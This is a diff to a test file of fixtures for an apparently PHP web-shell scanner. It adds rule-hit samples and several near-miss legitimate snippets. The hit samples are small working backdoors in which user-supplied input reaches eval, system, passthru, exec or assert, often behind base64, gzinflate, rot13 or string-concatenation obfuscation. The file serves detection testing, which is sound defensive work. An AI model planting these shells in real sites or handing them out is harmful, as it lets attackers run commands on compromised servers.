@@ -1835,6 +1835,160 @@ _HITS: list[tuple[str, str, str, str]] = [
         "SPAMGEAR_INPUT_AdjacentInputToSink",
         "<?php\nlist($f, $a) = array($_GET['f'], $_GET['a']);\n$f($a);\n",
     ),
+    # g:b64_name_concat_input_eval
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "<?php\n$a = 'ba'.'se'.'64'.'_de'.'code';\n$b = $a($_POST['x']);\neval($b);\n",
+    ),
+    # g:multiline_concat_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "<?php\n$p = 'QHN5c3RlbSgk'\n    . 'X0dFVFsiYyJd'\n    . 'KTsgZWNobyAib2siOw==';\neval(base64_decode($p));\n",
+    ),
+    # g:preg_strip_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "<?php\n$blob = 'cyiuLC5J zdVQiXd3 DYlWSlaK 1bRWSE3O yFdQys9W sgYA';\neval(gzinflate(base64_decode(preg_replace('/\\s+/', '', $blob))));\n",
+    ),
+    # g:dq_index_escaped
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        '<?php\n$fn = "\\x61ss\\x65rt";\n$fn(@$_POST["x"]);\n',
+    ),
+    # g:eval_end_post
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php eval(base64_decode(end($_POST)));\n",
+    ),
+    # g:eval_array_pop
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php @eval(array_pop($_REQUEST));\n",
+    ),
+    # g:assert_chr_key
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php assert(@$_REQUEST[chr(99)]);\n",
+    ),
+    # g:spread_call
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "<?php\n$f = $_REQUEST['f'];\n$f(...$_REQUEST['a']);\n",
+    ),
+    # g:eval_str_replace_lit
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        "<?php eval(str_replace('!', '', 'sy!st!em(!$_G!ET[!\"c\"]!);'));\n",
+    ),
+    # g:eval_closetag_input
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php eval('?>' . file_get_contents('php://input'));\n",
+    ),
+    # g:halt_fseek
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "<?php\n$h = fopen(__FILE__, 'r');\nfseek($h, __COMPILER_HALT_OFFSET__);\neval(gzinflate(stream_get_contents($h)));\n__halt_compiler();",
+    ),
+    # g:escaped_sg_varvar
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "<?php\n$k = \"\\x5f\\x47\\x45\\x54\";\n$$k['f']($$k['a']);\n",
+    ),
+    # g:globals_slot_sink
+    (
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\n$GLOBALS['a'] = 'assert';\n$GLOBALS['a']($_POST['x']);\n",
+    ),
+    # g:define_const_sink
+    (
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\ndefine('F', 'system');\n$f = F;\n$f($_GET['c']);\n",
+    ),
+    # g:constant_call
+    (
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\ndefine('RUN', 'passthru');\nconstant('RUN')($_GET['c']);\n",
+    ),
+    # g:obj_prop_call
+    (
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\n$obj = new stdClass;\n$obj->f = 'assert';\n($obj->f)($_POST['x']);\n",
+    ),
+    # g:map_two_arrays
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        "<?php array_map(function($f, $a) { return $f($a); }, [$_GET['f']], [$_GET['a']]);\n",
+    ),
+    # g:cuf_spread
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "<?php\n$x = [$_GET['f'], $_GET['a']];\ncall_user_func(...$x);\n",
+    ),
+    # g:write_then_include
+    (
+        "SPAMGEAR_BACKDOOR_CachedPayloadInclude",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\n$code = base64_decode($_POST['c']);\nfile_put_contents('/tmp/x.php', $code);\ninclude '/tmp/x.php';\n",
+    ),
+    # g:exec_letters
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "<?php\n$e = 'e'.'x'.'e'.'c';\n$e($_GET['c'], $o);\nprint_r($o);\n",
+    ),
+    # g:append_passthru
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "<?php\n$t = 'pas';\n$t .= 'sthru';\n$t($_GET['c']);\n",
+    ),
+    # g:rot13_eval_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        '<?php\n$r = \'@flfgrz($_TRG["p"]); rpub "bx";\';\n$c = str_rot13($r);\neval($c);\n',
+    ),
 ]
 
 # (rule that must not fire as written, padded or embedded; legit code)
@@ -1976,6 +2130,22 @@ _NEAR: list[tuple[str, str]] = [
     (
         "SPAMGEAR_INPUT_MagicMethodSink",
         "<?php\nclass F {\n    function __toString() { return strval($this->name); }\n    function __destruct() { fclose($this->fh); }\n}\n$f = new F($_GET['n']);\n",
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        "<?php\necho str_replace('-', '', '2024-01-01');\n$v = eval('return ' . str_replace(',', '.', $n) . ';');\n",
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        "<?php\n$ids = $_GET['ids'];\n$top = max(...$ids);\n$args = [$_GET['a'], 2];\n$this->run(...$args);\n",
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        "<?php\n$out = array_map(function($f, $v) { return $f($v); }, $filters, $values);\n",
+    ),
+    (
+        "SPAMGEAR_INPUT_StoredSinkNameCall",
+        "<?php\ndefine('APP_MODE', 'system');\n$x = strtolower($_GET['q']);\n$cfg = var_export($settings, true);\nfile_put_contents('config.php', $cfg);\ninclude 'config.php';\n",
     ),
 ]
 
